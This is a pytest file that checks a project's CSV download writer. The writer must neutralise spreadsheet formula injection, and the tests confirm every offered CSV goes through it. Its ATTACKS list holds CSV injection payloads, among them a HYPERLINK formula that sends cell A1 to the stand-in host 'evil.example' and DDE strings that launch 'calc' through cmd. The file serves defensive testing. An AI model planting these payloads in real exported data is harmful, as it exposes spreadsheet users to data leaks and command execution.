"""CSV downloads never carry a formula a spreadsheet would run (issue 24; OWASP, "CSV
Injection", https://owasp.org/www-community/attacks/CSV_Injection)."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pandas as pd
import pytest
from review import book
from review.book import downloads

ROOT = Path(__file__).resolve().parents[1]
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",  # full-width equals sign
    "-",
]
HARMLESS = ["Relapsed/refractory", "a = b", "", "1 - 2", "'quoted'"]


def _frame() -> pd.DataFrame:
    labels = ATTACKS + HARMLESS
    n = len(labels)
    return pd.DataFrame(
        {
            "label": labels,
            "estimate": [-0.52 + i for i in range(n)],  # negative numbers stay numbers
            "k": list(range(-3, n - 3)),
            "as_text": ["-12.5"] * n,  # a plain number written as text stays a number
            "=sum": ["x"] * n,  # a column name is a cell too
        }
    )


def test_neutralise_each_formula_start():
    for value in ATTACKS:
        assert downloads.neutralise(value) == "'" + value
    for value in HARMLESS + ["-12.5", "+3", "-1e-5"]:
        assert downloads.neutralise(value) == value
    for value in (-3, -0.5, None, float("nan")):
        assert downloads.neutralise(value) is value


def test_written_csv_reads_back_as_text_and_numbers(tmp_path):
    df = _frame()
    path = downloads.write_csv(df, tmp_path / "out.csv")
    with path.open(newline="", encoding="utf-8") as fh:
        table = list(csv.reader(fh))
    assert table[0] == ["label", "estimate", "k", "as_text", "'=sum"]
    for row in table[1:]:
        for cell in row:
            # what a spreadsheet sees first in each cell: never a formula start
            assert not cell.startswith(downloads.FORMULA_STARTS) or re.fullmatch(
                r"-[0-9.]+(e-?[0-9]+)?", cell
            ), cell
    back = pd.read_csv(path, keep_default_na=False)
    assert list(back["label"]) == ["'" + a for a in ATTACKS] + HARMLESS
    assert back["estimate"].dtype.kind == "f" and back["estimate"].iloc[0] == -0.52
    assert back["k"].dtype.kind == "i" and back["k"].iloc[0] == -3
    assert (back["as_text"] == -12.5).all()
    assert list(df["label"]) == ATTACKS + HARMLESS  # the caller's frame is not changed


def test_index_labels_are_neutralised(tmp_path):
    df = pd.DataFrame({"x": [1, 2]}, index=pd.Index(["=A1", "ok"], name="@who"))
    path = downloads.write_csv(df, tmp_path / "i.csv", index=True)
    assert path.read_text(encoding="utf-8").splitlines() == ["'@who,x", "'=A1,1", "ok,2"]


@pytest.mark.parametrize("how", ["table", "download"])
def test_book_downloads_go_through_the_safe_writer(tmp_path, monkeypatch, how):
    monkeypatch.chdir(tmp_path)
    df = _frame()
    if how == "table":
        book.table(df, "attack")
    else:
        book.download(df, "attack")
    back = pd.read_csv(tmp_path / "attack.csv", keep_default_na=False)
    assert list(back["label"])[: len(ATTACKS)] == ["'" + a for a in ATTACKS]


def test_no_csv_offered_without_the_safe_writer():
    """Every CSV a page offers is written by review.book.downloads.write_csv: no other
    ``to_csv`` in the book's helpers (the review.book layer) or the chapters (releases write
    data/releases/, which the site does not offer)."""
    helpers = sorted((ROOT / "lib" / "review" / "book").glob("*.py"))
    helpers.remove(ROOT / "lib" / "review" / "book" / "downloads.py")
    offenders = []
    for path in [*helpers, *sorted((ROOT / "chapters").glob("*.md"))]:
        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if ".to_csv(" in line or "csv.writer(" in line:
                offenders.append(f"{path.relative_to(ROOT)}:{n}: {line.strip()}")
    assert not offenders, "\n".join(offenders)
